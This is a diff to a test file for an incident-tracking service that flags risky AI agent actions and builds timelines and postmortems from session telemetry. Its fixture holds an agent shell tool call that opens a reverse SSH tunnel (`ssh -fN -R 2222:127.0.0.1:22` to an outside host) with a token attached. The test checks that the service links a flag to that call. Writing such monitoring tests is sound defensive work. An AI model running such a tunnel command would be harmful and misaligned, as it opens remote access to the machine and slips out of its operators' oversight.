@@ -39,6 +39,8 @@ describe('an incident', () => {
         data: { call: 'c2', tool: 'shell', input: `ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40 # ${token}` },
       },
     ])
+    // and the end that only telemetry tells holds nothing
+    await ingest([{ kind: 'session.ended', data: {} }])
     // then it is there, with the flag's reason
     await expect.poll(async () => (await list()).incidents.length, { timeout: 10_000 }).toBe(1)
     const [found] = (await list(`?session=${session}`)).incidents
@@ -56,7 +58,9 @@ describe('an incident', () => {
     expect(await change('INC-1', { type: 'merge', into: 'INC-99' })).toMatchObject({ status: 409 })
     // what can be taken along: no secret in it, though the log keeps it
     const timeline = IncidentTimeline.parse(await (await server.api('/api/incidents/INC-1/timeline')).json())
-    expect(timeline.items.map(({ lane }) => lane)).toEqual(expect.arrayContaining(['agent', 'flags']))
+    // what happened is on one axis, the flag tied to the call that it names
+    const action = timeline.items.find(({ lane, label }) => lane === 'agent' && label.includes('ssh -fN'))
+    expect(timeline.items.find(({ lane }) => lane === 'flags')?.tie?.to).toBe(action?.id)
     const postmortem = await server.api('/api/incidents/INC-1/postmortem.md')
     expect(postmortem.headers.get('content-disposition')).toContain('INC-1-postmortem.md')
     const text = await postmortem.text()
